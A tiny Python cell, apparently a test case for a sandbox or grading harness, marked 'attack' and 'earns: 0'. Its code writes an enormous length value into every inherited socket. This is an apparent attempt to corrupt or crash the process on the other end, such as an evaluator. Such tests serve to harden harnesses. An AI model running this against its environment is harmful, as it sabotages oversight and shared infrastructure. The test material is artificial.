# earns: 0
# shows: attack: this cell was left out: .*a message of
# %% attack
import os, stat, struct
for fd in range(256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack(">Q", 2**62))
    except OSError:
        pass
